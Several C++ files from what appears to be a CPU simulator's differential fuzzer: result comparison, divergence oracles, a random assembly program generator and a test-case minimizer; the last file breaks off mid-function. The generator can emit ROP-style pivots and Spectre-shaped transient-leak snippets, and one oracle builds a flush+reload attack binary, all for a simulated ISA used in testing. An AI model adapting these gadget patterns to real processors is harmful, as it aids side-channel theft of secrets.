  const auto num = [&](const std::string& what, std::uint64_t va,
                       std::uint64_t vb) {
    return va == vb ? std::string{} : tag(what, hex(va), hex(vb));
  };

  if (a.stop != b.stop) {
    return tag("stop reason", std::to_string(static_cast<int>(a.stop)),
               std::to_string(static_cast<int>(b.stop)));
  }
  if (a.fault_kind != b.fault_kind) {
    return tag("fault kind", std::to_string(static_cast<int>(a.fault_kind)),
               std::to_string(static_cast<int>(b.fault_kind)));
  }
  if (auto d = num("fault pc", a.fault_pc, b.fault_pc); !d.empty()) return d;
  if (auto d = num("fault addr", a.fault_addr, b.fault_addr); !d.empty())
    return d;
  if (auto d = num("exit code", static_cast<std::uint64_t>(a.exit_code),
                   static_cast<std::uint64_t>(b.exit_code));
      !d.empty())
    return d;
  if (auto d = num("final pc", a.pc, b.pc); !d.empty()) return d;
  if (auto d = num("retired", a.retired, b.retired); !d.empty()) return d;
  for (int r = 0; r < isa::kNumRegisters; ++r) {
    const auto i = static_cast<std::size_t>(r);
    if (a.regs[i] != b.regs[i]) {
      return tag("reg " + std::string(isa::register_name(r)), hex(a.regs[i]),
                 hex(b.regs[i]));
    }
  }
  if (a.output != b.output) {
    if (a.output.size() != b.output.size()) {
      return tag("output length", std::to_string(a.output.size()),
                 std::to_string(b.output.size()));
    }
    for (std::size_t i = 0; i < a.output.size(); ++i) {
      if (a.output[i] != b.output[i]) {
        return tag("output byte " + std::to_string(i),
                   hex(static_cast<std::uint8_t>(a.output[i])),
                   hex(static_cast<std::uint8_t>(b.output[i])));
      }
    }
  }
  for (std::size_t e = 0; e < sim::kEventCount; ++e) {
    const auto ev = static_cast<sim::Event>(e);
    if (arch_only && !arch_comparable_event(ev)) continue;
    if (a.pmu[e] != b.pmu[e]) {
      return tag("pmu " + std::string(sim::event_name(ev)),
                 std::to_string(a.pmu[e]), std::to_string(b.pmu[e]));
    }
  }
  if (!arch_only) {
    if (auto d = num("cycles", a.cycle, b.cycle); !d.empty()) return d;
  }
  if (a.stream.size() != b.stream.size()) {
    return tag("stream length", std::to_string(a.stream.size()),
               std::to_string(b.stream.size()));
  }
  for (std::size_t i = 0; i < a.stream.size(); ++i) {
    const auto& sa = a.stream[i];
    const auto& sb = b.stream[i];
    if (sa.retired != sb.retired) {
      return tag("stream[" + std::to_string(i) + "].retired",
                 std::to_string(sa.retired), std::to_string(sb.retired));
    }
    if (!arch_only && (sa.cycle != sb.cycle || sa.pmu_hash != sb.pmu_hash)) {
      return tag("stream[" + std::to_string(i) + "]",
                 std::to_string(sa.cycle) + "/" + hex(sa.pmu_hash),
                 std::to_string(sb.cycle) + "/" + hex(sb.pmu_hash));
    }
  }
  return {};
}

namespace {

std::optional<Divergence> run_config_set(const sim::Program& program,
                                         const std::vector<ExecConfig>& configs,
                                         bool uses_smc, const char* kind,
                                         const RunLimits& limits) {
  std::vector<ExecResult> results;
  results.reserve(configs.size());
  for (const auto& cfg : configs) {
    results.push_back(run_under_config(program, cfg, limits, uses_smc));
    const auto& res = results.back();
    if (!res.invariant_failure.empty()) {
      return Divergence{"invariant", res.config, "", res.invariant_failure};
    }
  }
  for (std::size_t i = 1; i < results.size(); ++i) {
    const auto detail =
        compare_results(results[0], results[i], configs[i].arch_only);
    if (!detail.empty()) {
      return Divergence{kind, results[0].config, results[i].config, detail};
    }
  }
  return std::nullopt;
}

std::optional<Divergence> check_assembled(const sim::Program& program,
                                          bool uses_smc, bool uses_rdcycle,
                                          const RunLimits& limits) {
  return run_config_set(program, standard_configs(!uses_rdcycle), uses_smc,
                        "differential", limits);
}

}  // namespace

std::optional<Divergence> check_program(const FuzzProgram& program,
                                        const RunLimits& limits) {
  return check_source(program.source(), program.uses_smc, program.uses_rdcycle,
                      limits);
}

std::optional<Divergence> check_source(const std::string& source,
                                       bool uses_smc, bool uses_rdcycle,
                                       const RunLimits& limits) {
  return check_assembled(assemble_fuzz(source), uses_smc, uses_rdcycle, limits);
}

std::optional<Divergence> check_hardened(const std::string& source,
                                         bool uses_smc, bool uses_rdcycle,
                                         std::uint64_t seed,
                                         const RunLimits& limits) {
  const sim::Program program = assemble_fuzz(source);
  std::vector<ExecConfig> configs = standard_configs(!uses_rdcycle);
  harden::HardenConfig harden;
  harden.aslr = true;
  harden.heap_guard = true;
  for (auto& cfg : configs) {
    cfg.name = "harden-" + cfg.name;
    // One seed for every config: the loader's layout draws are the first
    // things off the kernel RNG, so all configs see the same relocation.
    cfg.kernel.seed = seed;
    harden.apply(cfg.kernel);
  }
  return run_config_set(program, configs, uses_smc, "hardened", limits);
}

std::optional<Divergence> check_attack_leak(Rng& rng, const RunLimits& limits) {
  attack::AttackConfig acfg;
  const auto variants = attack::all_variants();
  acfg.variant = variants[rng.next_below(variants.size())];
  std::string secret;
  for (int i = 0; i < 8; ++i) {
    secret += static_cast<char>('A' + rng.next_below(26));
  }
  acfg.embed_secret = secret;
  acfg.secret_length = static_cast<std::uint32_t>(secret.size());
  acfg.train_iterations = 4 + static_cast<int>(rng.next_below(5));
  acfg.rounds_per_byte = 1;
  acfg.probe_stride = rng.next_bernoulli(0.5) ? 64 : 128;
  if (rng.next_bernoulli(0.5)) {
    acfg.perturb = true;
    perturb::VariantMutator mutator({}, rng.next_u64());
    acfg.perturb_params = mutator.next();
  }
  const auto program = attack::build_attack_binary(acfg);

  // The attack reads the clock (rdcycle): exact-equivalence configs only.
  const auto configs = standard_configs(/*timing_blind=*/false);
  const auto label = "attack(" + attack::variant_name(acfg.variant) +
                     ", stride=" + std::to_string(acfg.probe_stride) +
                     (acfg.perturb ? ", perturbed" : "") + ")";
  std::vector<ExecResult> results;
  for (const auto& cfg : configs) {
    results.push_back(
        run_under_config(program, cfg, limits, /*writable_text=*/false));
    const auto& res = results.back();
    if (!res.invariant_failure.empty()) {
      return Divergence{"invariant", res.config, "",
                        label + ": " + res.invariant_failure};
    }
  }
  for (std::size_t i = 1; i < results.size(); ++i) {
    const auto detail = compare_results(results[0], results[i],
                                        /*arch_only=*/false);
    if (!detail.empty()) {
      return Divergence{"attack", results[0].config, results[i].config,
                        label + ": " + detail};
    }
  }
  return std::nullopt;
}

std::optional<Divergence> check_parallel_batch(std::uint64_t base_seed,
                                               int count, unsigned threads,
                                               const GeneratorOptions& options,
                                               const RunLimits& limits) {
  std::vector<sim::Program> programs;
  std::vector<bool> smc;
  for (int i = 0; i < count; ++i) {
    Rng rng(derive_seed(base_seed, static_cast<std::uint64_t>(i)));
    const auto prog = generate_program(rng, options);
    programs.push_back(assemble_fuzz(prog.source()));
    smc.push_back(prog.uses_smc);
  }
  ExecConfig base;
  base.name = "blocks";
  base.machine.cpu.exec_engine = sim::ExecEngine::kBlocks;

  std::vector<ExecResult> serial;
  serial.reserve(programs.size());
  for (std::size_t i = 0; i < programs.size(); ++i) {
    serial.push_back(run_under_config(programs[i], base, limits, smc[i]));
  }

  ThreadPool pool(threads);
  auto pooled = parallel_map<ExecResult>(pool, programs.size(), [&](std::size_t i) {
    return run_under_config(programs[i], base, limits, smc[i]);
  });

  for (std::size_t i = 0; i < programs.size(); ++i) {
    auto detail = compare_results(serial[i], pooled[i], /*arch_only=*/false);
    if (!detail.empty()) {
      return Divergence{
          "parallel", "serial", "pool-" + std::to_string(pool.size()),
          "item " + std::to_string(i) + " (seed " +
              std::to_string(derive_seed(base_seed, i)) + "): " + detail};
    }
  }
  return std::nullopt;
}

}  // namespace crs::fuzz
