#include "fuzz/generator.hpp"

#include <iterator>

#include "perturb/perturb.hpp"

namespace crs::fuzz {

isa::Instruction random_instruction(Rng& rng) {
  isa::Instruction in;
  in.op = static_cast<isa::Opcode>(
      rng.next_below(static_cast<std::uint64_t>(isa::Opcode::kOpcodeCount)));
  in.rd = static_cast<std::uint8_t>(rng.next_below(isa::kNumRegisters));
  in.rs1 = static_cast<std::uint8_t>(rng.next_below(isa::kNumRegisters));
  in.rs2 = static_cast<std::uint8_t>(rng.next_below(isa::kNumRegisters));
  in.imm = static_cast<std::int32_t>(rng.next_u64());
  return in;
}

namespace {

// Register conventions inside generated programs:
//   r0..r7   data registers (random ALU results, loaded values)
//   r8       loop counter (no ALU/mem block ever writes it)
//   r10,r11  masked-address scratch and comparison scratch
//   r12,r13  construct-local scratch (branch targets, SMC patch words)
//   r14      base of the 4 KiB data scratch buffer
//   r15/sp   untouched outside push/pop-balanced pairs and call/ret
constexpr int kScratchBytes = 4096;
constexpr int kScratchMask = kScratchBytes - 64;  // keep +disp in bounds

std::string rname(int r) { return std::string(isa::register_name(r)); }

int data_reg(Rng& rng) { return static_cast<int>(rng.next_below(8)); }

constexpr isa::Opcode kAluPool[] = {
    isa::Opcode::kMovImm, isa::Opcode::kMov,    isa::Opcode::kAdd,
    isa::Opcode::kSub,    isa::Opcode::kMul,    isa::Opcode::kDivu,
    isa::Opcode::kRemu,   isa::Opcode::kAnd,    isa::Opcode::kOr,
    isa::Opcode::kXor,    isa::Opcode::kShl,    isa::Opcode::kShr,
    isa::Opcode::kSar,    isa::Opcode::kAddImm, isa::Opcode::kMulImm,
    isa::Opcode::kAndImm, isa::Opcode::kOrImm,  isa::Opcode::kXorImm,
    isa::Opcode::kShlImm, isa::Opcode::kShrImm, isa::Opcode::kCmpLt,
    isa::Opcode::kCmpLtu, isa::Opcode::kCmpEq,  isa::Opcode::kCmpNe};

struct Emitter {
  Rng& rng;
  const GeneratorOptions& opt;
  FuzzProgram& prog;
  std::vector<std::string> tail;     // subroutines / SMC sites after exit
  std::vector<std::string> labels;   // code labels usable as flush targets
  int sub_count = 0;
  int gadget_count = 0;
  int smc_count = 0;

  void line(std::string s) { prog.lines.push_back(std::move(s)); }

  std::string random_alu(int rd) {
    isa::Instruction in;
    in.op = kAluPool[rng.next_below(std::size(kAluPool))];
    in.rd = static_cast<std::uint8_t>(rd);
    in.rs1 = static_cast<std::uint8_t>(data_reg(rng));
    in.rs2 = static_cast<std::uint8_t>(data_reg(rng));
    in.imm = static_cast<std::int32_t>(rng.next_u64());
    return "  " + isa::disassemble(in);
  }

  void emit_alu() { line(random_alu(data_reg(rng))); }

  // Load/store with the effective address masked into the scratch buffer.
  void emit_mem() {
    line("  andi r10, " + rname(data_reg(rng)) + ", " +
         std::to_string(kScratchMask));
    line("  add r10, r10, r14");
    const int v = data_reg(rng);
    const auto disp = std::to_string(rng.next_below(8) * 8);
    switch (rng.next_below(4)) {
      case 0:
        line("  load " + rname(v) + ", [r10+" + disp + "]");
        break;
      case 1:
        line("  loadb " + rname(v) + ", [r10+" + disp + "]");
        break;
      case 2:
        line("  store [r10+" + disp + "], " + rname(v));
        break;
      default:
        line("  storeb [r10+" + disp + "], " + rname(v));
        break;
    }
  }

  // clflush of data or code lines, fences, cycle reads.
  void emit_microarch() {
    switch (rng.next_below(4)) {
      case 0:
        line("  andi r10, " + rname(data_reg(rng)) + ", " +
             std::to_string(kScratchMask));
        line("  add r10, r10, r14");
        line("  clflush [r10]");
        break;
      case 1:
        if (!labels.empty()) {
          // Flush a line of the *executing code*: the decode cache must
          // refetch coherently afterwards.
          const auto& target = labels[rng.next_below(labels.size())];
          line("  movi r12, " + target);
          line("  clflush [r12]");
          break;
        }
        [[fallthrough]];
      case 2:
        line("  mfence");
        break;
      default:
        if (opt.allow_rdcycle) {
          prog.uses_rdcycle = true;
          line("  rdcycle " + rname(data_reg(rng)));
        } else {
          line("  mfence");
        }
        break;
    }
  }

  void emit_push_pop() {
    const int a = data_reg(rng), b = data_reg(rng);
    line("  push " + rname(a));
    line("  push " + rname(b));
    line("  pop " + rname(data_reg(rng)));
    line("  pop " + rname(data_reg(rng)));
  }

  void emit_loop(int index) {
    const auto label = "fz_loop" + std::to_string(index);
    const auto count = 1 + rng.next_below(opt.max_loop_iterations);
    line("  movi r8, " + std::to_string(count));
    line(label + ":");
    labels.push_back(label);
    const int body = 1 + static_cast<int>(rng.next_below(3));
    for (int i = 0; i < body; ++i) {
      switch (rng.next_below(3)) {
        case 0: emit_alu(); break;
        case 1: emit_mem(); break;
        default: emit_microarch(); break;
      }
    }
    line("  addi r8, r8, -1");
    line("  bnez r8, " + label);
  }

  // Forward conditional branch over some junk into `next_label`.
  void emit_branch(const std::string& next_label) {
    static constexpr const char* kCmps[] = {"cmplt", "cmpltu", "cmpeq",
                                            "cmpne"};
    line("  " + std::string(kCmps[rng.next_below(4)]) + " r11, " +
         rname(data_reg(rng)) + ", " + rname(data_reg(rng)));
    line(std::string(rng.next_bernoulli(0.5) ? "  beqz" : "  bnez") +
         " r11, " + next_label);
    const int junk = static_cast<int>(rng.next_below(3));
    for (int i = 0; i < junk; ++i) emit_alu();
  }

  void emit_call() {
    const auto label = "fz_sub" + std::to_string(sub_count++);
    line("  call " + label);
    tail.push_back(label + ":");
    const int body = 1 + static_cast<int>(rng.next_below(4));
    std::vector<std::string> saved;
    saved.swap(prog.lines);
    for (int i = 0; i < body; ++i) {
      if (rng.next_bernoulli(0.3)) {
        emit_mem();
      } else {
        emit_alu();
      }
    }
    // Move the body into the tail, restore the main stream.
    for (auto& l : prog.lines) tail.push_back(std::move(l));
    prog.lines.swap(saved);
    tail.push_back("  ret");
  }

  // ROP-style pivot: redirect control into a byte-misaligned instruction
  // stream (4 bytes of dead padding make the gadget label pc % 8 == 4).
  // Misaligned fetches bypass the decode cache's aligned fast path, so this
  // differentiates the cached and uncached fetch paths on real gadget
  // shapes. A ret-based variant drives the RSB-mispredict machinery too.
  void emit_pivot(int index) {
    const auto g = "fz_g" + std::to_string(index);
    const auto r = "fz_r" + std::to_string(index);
    line("  movi r12, " + g);
    if (rng.next_bernoulli(0.5)) {
      line("  jmpr r12");
    } else {
      line("  push r12");
      line("  ret");
    }
    line("  .byte 0, 0, 0, 0");
    line(g + ":");
    const int body = 1 + static_cast<int>(rng.next_below(3));
    for (int i = 0; i < body; ++i) emit_alu();
    line("  movi r12, " + r);
    line("  jmpr r12");
    line("  .align 8");
    line(r + ":");
  }

  // Spectre-shaped snippet for the mining corpus (opt.gadget_bias): a tail
  // subroutine whose entry is a taint-reset point for the classifier, so an
  // attacker-controlled argument register demonstrably reaches a transient
  // deref -> dependent probe load. The PHT shape is a bounds-checked table
  // index (both real paths are architecturally safe: the bound is 16 and
  // probe offsets cap at 255*64 inside the shared 16 KiB probe buffer); the
  // RSB shape hides the deref behind a return-rewriting trampoline, so it
  // only ever executes transiently. All snippets share one table/probe pair
  // to keep generated images compact.
  bool gadget_data_emitted = false;
  void emit_gadget(int index) {
    const auto g = "fz_gad" + std::to_string(index);
    const int atk = 1 + static_cast<int>(rng.next_below(3));  // r1..r3
    const bool pht = rng.next_bernoulli(0.5);
    line("  call " + g);
    gadget_data_emitted = true;
    tail.push_back(g + ":");
    if (pht) {
      tail.push_back("  movi r10, fz_gtbl");
      tail.push_back("  load r10, [r10]");
      tail.push_back("  cmpltu r11, " + rname(atk) + ", r10");
      tail.push_back("  beqz r11, fz_gend" + std::to_string(index));
    } else {
      tail.push_back("  call fz_gtr" + std::to_string(index));
    }
    tail.push_back("  movi r12, fz_gtbl");
    tail.push_back("  add r12, r12, " + rname(atk));
    tail.push_back("  loadb r13, [r12+8]");
    tail.push_back("  muli r13, r13, 64");
    tail.push_back("  movi r12, fz_gprobe");
    tail.push_back("  add r12, r12, r13");
    tail.push_back("  loadb r13, [r12]");
    tail.push_back("fz_gend" + std::to_string(index) + ":");
    tail.push_back("  ret");
    if (!pht) {
      tail.push_back("fz_gtr" + std::to_string(index) + ":");
      tail.push_back("  movi r13, fz_gend" + std::to_string(index));
      tail.push_back("  store [r15], r13");
      tail.push_back("  clflush [r15]");
      tail.push_back("  mfence");
      tail.push_back("  ret");
    }
  }

  // Self-modifying store: build the encoding of a random ALU instruction in
  // a register, store it over a nop at an SMC site, then execute the site.
  // A decode cache that misses the store's page-version bump runs the stale
  // nop — exactly the bug class this construct hunts.
  void emit_smc() {
    prog.uses_smc = true;
    const auto site = "fz_smc" + std::to_string(smc_count++);
    isa::Instruction repl;
    repl.op = kAluPool[rng.next_below(std::size(kAluPool))];
    repl.rd = static_cast<std::uint8_t>(data_reg(rng));
    repl.rs1 = static_cast<std::uint8_t>(data_reg(rng));
    repl.rs2 = static_cast<std::uint8_t>(data_reg(rng));
    repl.imm = static_cast<std::int32_t>(rng.next_u64());
    const auto bytes = isa::encode(repl);
    std::uint64_t word = 0;
    for (std::size_t i = 0; i < bytes.size(); ++i) {
      word |= static_cast<std::uint64_t>(bytes[i]) << (8 * i);
    }
    // lo32's top byte is rs2 (< 16), so the movi sign extension is benign.
    const auto lo = static_cast<std::int32_t>(word & 0xFFFFFFFFull);
    const auto hi = static_cast<std::int32_t>(word >> 32);
    // Prime the decode cache with the unpatched site first: the stale-slot
    // bug class only manifests when the nop was already decoded.
    line("  call " + site);
    line("  movi r13, " + std::to_string(hi));
    line("  shli r13, r13, 32");
    line("  movi r11, " + std::to_string(lo));
    line("  or r13, r13, r11");
    line("  movi r12, " + site);
    line("  store [r12], r13");
    line("  call " + site);
    tail.push_back(site + ":");
    tail.push_back("  nop");
    tail.push_back("  ret");
  }
};

}  // namespace

std::string FuzzProgram::source() const {
  std::string out;
  for (const auto& l : lines) {
    out += l;
    out += '\n';
  }
  return out;
}

FuzzProgram generate_program(Rng& rng, const GeneratorOptions& options) {
  FuzzProgram prog;
  Emitter e{rng, options, prog, {}, {}};

  const int blocks =
      options.min_blocks +
      static_cast<int>(rng.next_below(static_cast<std::uint64_t>(
          options.max_blocks - options.min_blocks + 1)));

  // One-shot features, assigned to random blocks.
  const int smc_block =
      options.allow_smc ? static_cast<int>(rng.next_below(blocks)) : -1;
  const int perturb_block =
      options.allow_perturb && rng.next_bernoulli(0.4)
          ? static_cast<int>(rng.next_below(blocks))
          : -1;
  std::string perturb_src;
  if (perturb_block >= 0) {
    // Draw an Algorithm 2 variant the same way the adaptive attacker does.
    perturb::VariantMutator mutator({}, rng.next_u64());
    perturb_src = perturb::generate_perturb_source(mutator.next(), "fz_perturb");
  }

  e.line("_start:");
  e.line("  movi r14, fz_scratch");
  for (int b = 0; b < blocks; ++b) {
    const auto label = "fz_b" + std::to_string(b);
    e.line(label + ":");
    e.labels.push_back(label);
    if (b == smc_block) e.emit_smc();
    if (b == perturb_block) e.line("  call fz_perturb");
    if (options.gadget_bias > 0 &&
        rng.next_below(100) < static_cast<std::uint64_t>(options.gadget_bias)) {
      e.emit_gadget(b);
    }
    const auto next_label =
        b + 1 < blocks ? "fz_b" + std::to_string(b + 1) : std::string("fz_done");
    const int stmts = 1 + static_cast<int>(rng.next_below(
                              static_cast<std::uint64_t>(options.max_block_len)));
    for (int s = 0; s < stmts; ++s) {
      switch (rng.next_below(8)) {
        case 0:
        case 1:
        case 2:
          e.emit_alu();
          break;
        case 3:
        case 4:
          e.emit_mem();
          break;
        case 5:
          e.emit_microarch();
          break;
        case 6:
          if (rng.next_bernoulli(0.5)) {
            e.emit_call();
          } else {
            e.emit_push_pop();
          }
          break;
        default:
          if (options.allow_pivot && rng.next_bernoulli(0.5)) {
            e.emit_pivot(e.gadget_count++);
          } else {
            e.emit_loop(b * 16 + s);
          }
          break;
      }
    }
    if (rng.next_bernoulli(0.35)) e.emit_branch(next_label);
  }
  e.line("fz_done:");
  e.line("  movi r1, 0");
  e.line("  call exit_");

  for (auto& l : e.tail) prog.lines.push_back(std::move(l));

  prog.lines.push_back(".data");
  prog.lines.push_back(".align 64");
  prog.lines.push_back("fz_scratch:");
  prog.lines.push_back("  .space " + std::to_string(kScratchBytes) + ", 0");

  if (e.gadget_data_emitted) {
    // Shared gadget-snippet data: [bound=16][16 index bytes] and the probe
    // buffer every snippet transmits into (255 * 64 < 16384).
    prog.lines.push_back(".align 64");
    prog.lines.push_back("fz_gtbl:");
    prog.lines.push_back("  .word 16");
    prog.lines.push_back("  .space 16, 7");
    prog.lines.push_back(".align 64");
    prog.lines.push_back("fz_gprobe:");
    prog.lines.push_back("  .space 16384, 0");
  }

  if (!perturb_src.empty()) {
    std::size_t pos = 0;
    while (pos <= perturb_src.size()) {
      const auto eol = perturb_src.find('\n', pos);
      if (eol == std::string::npos) {
        if (pos < perturb_src.size()) prog.lines.push_back(perturb_src.substr(pos));
        break;
      }
      prog.lines.push_back(perturb_src.substr(pos, eol - pos));
      pos = eol + 1;
    }
  }
  return prog;
}

}  // namespace crs::fuzz
