#include "fuzz/minimize.hpp"

#include <algorithm>

namespace crs::fuzz {

namespace {

FuzzProgram without_range(const FuzzProgram& p, std::size_t begin,
                          std::size_t end) {
  FuzzProgram out = p;
  out.lines.erase(out.lines.begin() + static_cast<std::ptrdiff_t>(begin),
                  out.lines.begin() + static_cast<std::ptrdiff_t>(end));
  return out;
}

}  // namespace

FuzzProgram minimize(const FuzzProgram& program, const Oracle& still_fails,
                     int max_oracle_calls, MinimizeStats* stats) {
  FuzzProgram best = program;
  MinimizeStats local;
  MinimizeStats& st = stats != nullptr ? *stats : local;

  bool shrunk = true;
  while (shrunk && st.oracle_calls < max_oracle_calls) {
    shrunk = false;
    for (std::size_t chunk = std::max<std::size_t>(best.lines.size() / 2, 1);
         chunk >= 1; chunk /= 2) {
      std::size_t i = 0;
      while (i < best.lines.size()) {
        if (st.oracle_calls >= max_oracle_calls) return best;
        const std::size_t end = std::min(i + chunk, best.lines.size());
        FuzzProgram candidate = without_range(best, i, end);
        if (candidate.lines.empty()) {
          ++i;
          continue;
        }
        ++st.oracle_calls;
        if (still_fails(candidate)) {
          st.lines_removed += static_cast<int>(end - i);
          best = std::move(candidate);
          shrunk = true;
          // Do not advance: the next chunk now starts at index i.
        } else {
          i += chunk;
        }
      }
      if (chunk == 1) break;
    }
  }
  return best;
}

}  // namespace crs::fuzz
