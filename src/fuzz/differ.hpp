// Differential execution oracle: one program, N machine configurations.
//
// Configurations fall into two equivalence classes:
//   * exact  — pure simulator-speed knobs (decode cache on/off, serial vs
//     thread-pool campaign execution). EVERYTHING must match bit-for-bit:
//     registers, PMU counters, cycles, chunked retired/cycle/PMU streams,
//     SYS_WRITE output (flush+reload leak bytes), faults, exit codes.
//   * arch-only — legitimate micro-architecture changes (cache geometry,
//     speculation window). Timing differs by design, so only architectural
//     state and timing-independent PMU counters must match; stream samples
//     are taken at retired-instruction boundaries, which are timing-blind.
//
// Every run additionally checks algebraic invariants (cache structural
// consistency, predictor state bounds, PMU cross-counter relations); a
// violation is a divergence even when all configs agree with each other.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "fuzz/generator.hpp"
#include "sim/kernel.hpp"
#include "support/rng.hpp"

namespace crs::fuzz {

struct RunLimits {
  /// Retired-instruction cap; overrunning it is NOT a divergence (all
  /// configs are cut at the same retired count) but is reported in results.
  std::uint64_t max_instructions = 2'000'000;
  /// Stream-sample granularity in retired instructions.
  std::uint64_t stream_chunk = 4096;
};

struct ExecConfig {
  std::string name;
  sim::MachineConfig machine;
  /// Timing legitimately differs from the baseline: compare architectural
  /// state and timing-independent counters only.
  bool arch_only = false;
  sim::KernelConfig kernel;
  /// Runs after kernel construction, before start() — the mitigation
  /// property tests use it to install load hooks (fence pass, partition).
  std::function<void(sim::Kernel&)> prepare;
};

/// The standard config set. The first entry is the baseline (decode cache
/// on, default geometry). Arch-only configs are included only for
/// `timing_blind` programs (no rdcycle), where architectural state cannot
/// observe the clock.
std::vector<ExecConfig> standard_configs(bool timing_blind);

struct StreamSample {
  std::uint64_t retired = 0;
  std::uint64_t cycle = 0;
  std::uint64_t pmu_hash = 0;

  bool operator==(const StreamSample&) const = default;
};

struct ExecResult {
  std::string config;
  sim::StopReason stop = sim::StopReason::kHalted;
  sim::FaultKind fault_kind = sim::FaultKind::kNone;
  std::uint64_t fault_pc = 0;
  std::uint64_t fault_addr = 0;
  std::array<std::uint64_t, isa::kNumRegisters> regs{};
  std::uint64_t pc = 0;
  std::uint64_t retired = 0;
  std::uint64_t cycle = 0;
  std::int64_t exit_code = 0;
  std::string output;
  sim::PmuSnapshot pmu{};
  std::vector<StreamSample> stream;
  /// Non-empty = an algebraic invariant broke during/after this run.
  std::string invariant_failure;
};

/// Runs `program` to completion (or the instruction cap) under `config`,
/// sampling the stream every `limits.stream_chunk` retired instructions.
/// `writable_text` maps the whole image RWX after load (required for
/// self-modifying programs; applied identically across configs).
ExecResult run_under_config(const sim::Program& program,
                            const ExecConfig& config, const RunLimits& limits,
                            bool writable_text);

/// "" when `a` and `b` are equivalent under the comparison discipline;
/// otherwise a human-readable first-difference description.
std::string compare_results(const ExecResult& a, const ExecResult& b,
                            bool arch_only);

/// True when this PMU event is a pure function of the architectural
/// instruction stream (timing- and wrong-path-independent).
bool arch_comparable_event(sim::Event e);

struct Divergence {
  std::string kind;  ///< "differential" | "invariant" | "parallel" |
                     ///< "attack" | "hardened"
  std::string config_a;
  std::string config_b;
  std::string detail;
};

/// Full oracle for one generated program: assemble (runtime appended), run
/// under the standard configs, cross-compare, check invariants.
std::optional<Divergence> check_program(const FuzzProgram& program,
                                        const RunLimits& limits = {});

/// Oracle for repro replay: same as check_program but from raw source and
/// explicit flags (as recorded in a corpus file header).
std::optional<Divergence> check_source(const std::string& source,
                                       bool uses_smc, bool uses_rdcycle,
                                       const RunLimits& limits = {});

/// Hardened-layout oracle: the same program under a hardened kernel
/// (seeded ASLR image/stack relocation + guarded heap) must execute
/// bit-identically across the standard configs — the layout draws happen at
/// load, before user code runs, so with a fixed kernel seed every engine
/// and geometry sees the same relocated world. Divergence kind "hardened".
std::optional<Divergence> check_hardened(const std::string& source,
                                         bool uses_smc, bool uses_rdcycle,
                                         std::uint64_t seed,
                                         const RunLimits& limits = {});

/// Leak oracle: builds a standalone flush+reload attack binary with
/// randomized parameters and asserts the recovered secret bytes (and all
/// other state) are identical across exact-equivalence configs.
std::optional<Divergence> check_attack_leak(Rng& rng,
                                            const RunLimits& limits = {});

/// Campaign-parallelism oracle: `count` generated programs executed
/// serially and on a `threads`-wide pool must produce per-index identical
/// results (the deterministic-parallelism contract of src/support).
std::optional<Divergence> check_parallel_batch(std::uint64_t base_seed,
                                               int count, unsigned threads,
                                               const GeneratorOptions& options,
                                               const RunLimits& limits = {});

}  // namespace crs::fuzz
