// Greedy repro minimization (ddmin-flavoured, over source lines).
//
// Given a failing program and an oracle that re-checks the failure, remove
// chunks of lines (halving the chunk size down to single lines) and keep
// every removal after which the oracle still fails. Removals that break
// assembly simply make the oracle return false and are reverted, so label
// definitions/uses stay consistent without any parsing here. Deterministic:
// same input + same oracle behaviour → same minimized program.
#pragma once

#include <functional>

#include "fuzz/generator.hpp"

namespace crs::fuzz {

/// Returns true when `candidate` still exhibits the original failure.
/// Must return false (not throw) for candidates that fail to assemble.
using Oracle = std::function<bool(const FuzzProgram&)>;

struct MinimizeStats {
  int oracle_calls = 0;
  int lines_removed = 0;
};

/// `max_oracle_calls` bounds total work; the best program found so far is
/// returned when the budget runs out.
FuzzProgram minimize(const FuzzProgram& program, const Oracle& still_fails,
                     int max_oracle_calls = 600,
                     MinimizeStats* stats = nullptr);

}  // namespace crs::fuzz
