// Seeded random program generator over the casm/ISA surface.
//
// The differential fuzzer's front end: produces small, always-terminating
// assembly programs that exercise the simulator behaviours most likely to
// diverge between its fast paths and its reference paths — straight-line
// ALU, masked loads/stores, bounded loops, forward branches, call/ret,
// clflush of data AND code lines, mfence, self-modifying stores into the
// executing page, ROP-style pivots into unaligned instruction streams, and
// perturb()-shaped ladders (Algorithm 2 bodies).
//
// Determinism contract: the emitted text is a pure function of (Rng state,
// GeneratorOptions). The property-test suite shares `random_instruction`
// with the fuzzer so both explore the same instruction distribution.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "isa/isa.hpp"
#include "support/rng.hpp"

namespace crs::fuzz {

/// Uniformly random *valid* instruction: legal opcode and register indices,
/// arbitrary 32-bit immediate. Round-trips through encode/decode.
isa::Instruction random_instruction(Rng& rng);

struct GeneratorOptions {
  int min_blocks = 2;
  int max_blocks = 7;
  /// Longest straight-line run inside one block.
  int max_block_len = 10;
  /// Iteration bound for generated loops (termination guarantee).
  std::uint64_t max_loop_iterations = 24;
  /// rdcycle makes architectural state timing-dependent; generators feeding
  /// arch-only config comparisons (cache geometry, spec window) disable it.
  bool allow_rdcycle = true;
  /// Self-modifying stores into the executing page. The executor must map
  /// the image writable+executable when this is on.
  bool allow_smc = false;
  /// ROP-style jumps into byte-misaligned instruction streams.
  bool allow_pivot = true;
  /// Splice in a perturb() ladder (Algorithm 2) and call it.
  bool allow_perturb = true;
  /// Percent chance per block to splice a Spectre-shaped snippet (a
  /// bounds-checked table deref or a return-rewriting trampoline feeding a
  /// dependent probe load) — the mining corpus knob. 0 (the default) draws
  /// no extra randomness, so existing golden corpora are unchanged.
  int gadget_bias = 0;

  bool operator==(const GeneratorOptions&) const = default;
};

/// A generated program: assembly text line-by-line (the unit the minimizer
/// removes), plus the flags the executor needs to replay it faithfully.
struct FuzzProgram {
  std::vector<std::string> lines;
  /// The program stores into its own text image: run with a writable image.
  bool uses_smc = false;
  /// The program reads the cycle counter: architectural state is timing-
  /// dependent, so only exact-equivalence configs may be compared.
  bool uses_rdcycle = false;

  /// Full assembly source (lines joined; runtime library NOT appended).
  std::string source() const;
};

FuzzProgram generate_program(Rng& rng, const GeneratorOptions& options = {});

}  // namespace crs::fuzz
