#include "fuzz/golden.hpp"

#include <fstream>
#include <sstream>
#include <vector>

#include "core/report.hpp"
#include "core/scenario.hpp"
#include "hid/profiler.hpp"
#include "sim/kernel.hpp"
#include "support/error.hpp"
#include "workloads/workloads.hpp"

namespace crs::fuzz {

namespace {

// Small fixed scales: each scenario must run in roughly a second so the
// golden tests stay inside tier-1 budgets, while still producing enough
// windows for a meaningful trace.
constexpr std::uint64_t kGoldenSeed = 7;

std::string benign_csv() {
  sim::Machine machine;
